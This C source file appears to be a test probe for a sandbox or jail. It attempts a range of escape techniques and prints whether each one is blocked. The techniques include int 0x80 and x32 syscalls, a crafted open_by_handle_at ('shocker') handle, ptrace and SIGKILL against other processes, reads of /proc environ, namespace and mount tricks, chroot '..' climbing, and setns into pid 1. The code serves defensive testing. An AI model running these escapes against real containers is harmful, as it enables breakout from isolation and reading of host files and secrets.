/* escape: jail-escape attempts, one stable line per attempt.
 *
 * Lines are "<case> ok", "<case> -1 <ERRNO-NAME>", or "<case> <value>".
 * Meant to run INSIDE the jail; several cases (int80, pids, ns) would act on
 * the real host if run natively as root, so the tests never run those natively.
 *
 *   escape int80              i386 int 0x80 open("/etc/passwd") from 64-bit code
 *   escape x32                x32 syscall numbers (nr | 0x40000000)
 *   escape handle             name_to_handle_at / open_by_handle_at
 *   escape pids PID           ptrace / process_vm_readv / kill / pidfd on pid 1 and PID
 *   escape ns HOSTFILE        unshare/mount/pivot_root/chroot/setns, then look at the view
 *   escape cat PATH...        print the first line of each PATH (or the errno)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define X32_BIT 0x40000000L
#define NR_pidfd_open 434

#include "probe.h"


/* first line of a file, or "-1 ERRNO" */
static void show(const char *tag, const char *path)
{
    char buf[512];
    long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
    if (fd < 0) {
        printf("%s -1 %s\n", tag, ename(errno));
    } else {
        long n = syscall(SYS_read, (int)fd, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        buf[strcspn(buf, "\n")] = 0;
        printf("%s =%s\n", tag, buf);
        close((int)fd);
    }
    fflush(stdout);
}

/* ---- i386 ABI through int 0x80 ---- */
static long int80(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c)
                     : "memory", "r8", "r9", "r10", "r11");
    return ret;
}

static void do_int80(void)
{
    /* the i386 ABI only sees 32-bit pointers: keep the path below 4 GiB */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        printf("mmap32 -1 %s\n", ename(errno));
        return;
    }
    strcpy(low, "/etc/passwd");
    long r = int80(20 /* i386 getpid */, 0, 0, 0);
    if (r < 0)
        printf("int80_getpid -1 %s\n", ename((int)-r));
    else
        printf("int80_getpid ok\n");
    fflush(stdout);
    r = int80(5 /* i386 open */, (long)low, O_RDONLY, 0);
    if (r < 0) {
        printf("int80_open -1 %s\n", ename((int)-r));
    } else {
        long n = int80(3 /* i386 read */, r, (long)(low + 64), 400);
        low[64 + (n > 0 ? n : 0)] = 0;
        low[64 + strcspn(low + 64, "\n")] = 0;
        printf("int80_open ok\nint80_read =%s\n", low + 64);
    }
    fflush(stdout);
}

/* ---- x32 ABI numbers ---- */
static void x32(void)
{
    ck("x32_getpid", syscall(X32_BIT | SYS_getpid));
    ck("x32_openat", syscall(X32_BIT | SYS_openat, AT_FDCWD, "/etc/passwd", O_RDONLY));
    ck("x32_uname", syscall(X32_BIT | SYS_uname, malloc(512)));
}

/* ---- file handles (the "shocker" escape) ---- */
struct fh {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
};

static void handle(void)
{
    struct fh h = { .handle_bytes = 128 };
    int mnt_id = 0;
    long r = ck("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h, &mnt_id, 0));
    long root = syscall(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY);
    if (r == 0) {
        long fd = ck("open_by_handle_at", syscall(SYS_open_by_handle_at, (int)root, &h, O_RDONLY));
        if (fd >= 0)
            close((int)fd);
    }
    /* ext4/xfs style handle of inode 2 (the root directory of the host fs) */
    struct fh c = { .handle_bytes = 8, .handle_type = 1 };
    uint32_t ino_gen[2] = { 2, 0 };
    memcpy(c.f_handle, ino_gen, 8);
    long fd = ck("open_by_handle_at_crafted", syscall(SYS_open_by_handle_at, (int)root, &c, O_RDONLY | O_DIRECTORY));
    if (fd >= 0)
        close((int)fd);
    if (root >= 0)
        close((int)root);
}

/* ---- other processes (pid 1 and a host pid given by the test) ---- */
static long marker = 0x5eed5eed;

/* wait for the attach stop, then detach without a signal */
static void untrace(pid_t pid)
{
    int st;
    waitpid(pid, &st, __WALL);
    syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
}

static void on_pid(const char *tag, pid_t pid, int sigkill)
{
    char name[64], path[64];
    long local = 0;
    struct iovec l = { &local, sizeof local }, rv = { &marker, sizeof marker };

    snprintf(name, sizeof name, "kill0_%s", tag);
    ck(name, syscall(SYS_kill, pid, 0));
    snprintf(name, sizeof name, "ptrace_attach_%s", tag);
    if (ck(name, syscall(SYS_ptrace, PTRACE_ATTACH, pid, 0, 0)) == 0)
        untrace(pid); /* never leave a process stopped */
    snprintf(name, sizeof name, "ptrace_seize_%s", tag);
    if (ck(name, syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0)) == 0) {
        syscall(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
        untrace(pid);
    }
    snprintf(name, sizeof name, "process_vm_readv_%s", tag);
    ck(name, syscall(SYS_process_vm_readv, pid, &l, 1, &rv, 1, 0));
    snprintf(name, sizeof name, "pidfd_open_%s", tag);
    long pfd = ck(name, syscall(NR_pidfd_open, pid, 0));
    if (pfd >= 0)
        close((int)pfd);
    snprintf(name, sizeof name, "environ_%s", tag);
    snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
    show(name, path);
    if (sigkill) {
        snprintf(name, sizeof name, "kill9_%s", tag);
        ck(name, syscall(SYS_kill, pid, SIGKILL));
    }
}

static void pids(pid_t host)
{
    printf("getpid %d\n", (int)getpid());
    on_pid("1", 1, 0); /* signal 0 only: never signal pid 1 for real */
    on_pid("host", host, 1);
}

/* ---- namespace / mount / root escapes ---- */
static const char *hostfile;

static void view(const char *tag)
{
    char t[96];
    snprintf(t, sizeof t, "%s_passwd", tag);
    show(t, "/etc/passwd");
    snprintf(t, sizeof t, "%s_hostfile", tag);
    show(t, hostfile);
}

static void ns(void)
{
    struct stat a, b;

    syscall(SYS_chdir, "/");
    view("start");
    if (stat("/", &a) == 0 && stat("/..", &b) == 0)
        printf("dotdot_is_root %s\n", a.st_dev == b.st_dev && a.st_ino == b.st_ino ? "yes" : "no");
    show("root_dotdot_passwd", "/../../../etc/passwd");
    show("proc_self_root_passwd", "/proc/self/root/etc/passwd");
    show("proc_1_root_passwd", "/proc/1/root/etc/passwd");

    ck("unshare_user", syscall(SYS_unshare, CLONE_NEWUSER));
    ck("unshare_mnt", syscall(SYS_unshare, CLONE_NEWNS));
    view("after_unshare");

    /* mount a fresh proc and look at pid 1's root through it */
    ck("mount_proc", syscall(SYS_mount, "proc", "/mnt", "proc", 0, NULL));
    show("mnt_1_root_passwd", "/mnt/1/root/etc/passwd");
    syscall(SYS_umount2, "/mnt", MNT_DETACH);
    /* bind the host directory holding HOSTFILE */
    char dir[512];
    snprintf(dir, sizeof dir, "%s", hostfile);
    *strrchr(dir, '/') = 0;
    ck("mount_bind_hostdir", syscall(SYS_mount, dir, "/mnt", NULL, MS_BIND, NULL));
    char via[600];
    snprintf(via, sizeof via, "/mnt/%s", strrchr(hostfile, '/') + 1);
    show("mnt_hostfile", via);
    syscall(SYS_umount2, "/mnt", MNT_DETACH);
    ck("pivot_root", syscall(SYS_pivot_root, ".", "."));
    view("after_pivot_root");

    /* classic chroot escape: chroot below cwd, climb out, chroot(".") */
    ck("chroot_dotdot", syscall(SYS_chroot, "/.."));
    view("after_chroot_dotdot");
    ck("chroot_sub", syscall(SYS_chroot, "/tmp")); /* an existing dir: the probe writes nothing */
    for (int i = 0; i < 32; i++)
        syscall(SYS_chdir, "..");
    ck("chroot_dot", syscall(SYS_chroot, "."));
    view("after_chroot_escape");

    /* join pid 1's namespaces */
    long fd = syscall(SYS_openat, AT_FDCWD, "/proc/1/ns/mnt", O_RDONLY);
    ck("setns_mnt", fd < 0 ? -1 : syscall(SYS_setns, (int)fd, CLONE_NEWNS));
    fd = syscall(SYS_openat, AT_FDCWD, "/proc/1/root", O_RDONLY | O_DIRECTORY);
    ck("fchdir_proc_1_root", fd < 0 ? -1 : syscall(SYS_fchdir, (int)fd));
    show("cwd_etc_passwd", "etc/passwd");
    ck("chroot_dot2", syscall(SYS_chroot, "."));
    view("after_setns");
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: escape int80 | x32 | handle | pids PID | ns HOSTFILE | cat PATH...\n");
        return 2;
    }
    const char *c = argv[1];
    if (!strcmp(c, "int80"))
        do_int80();
    else if (!strcmp(c, "x32"))
        x32();
    else if (!strcmp(c, "handle"))
        handle();
    else if (!strcmp(c, "pids") && argc == 3)
        pids((pid_t)atoi(argv[2]));
    else if (!strcmp(c, "ns") && argc == 3 && strchr(argv[2], '/')) {
        hostfile = argv[2];
        ns();
    } else if (!strcmp(c, "cat"))
        for (int i = 2; i < argc; i++)
            show(argv[i], argv[i]);
    else {
        fprintf(stderr, "escape: bad arguments\n");
        return 2;
    }
    printf("done\n");
    return 0;
}
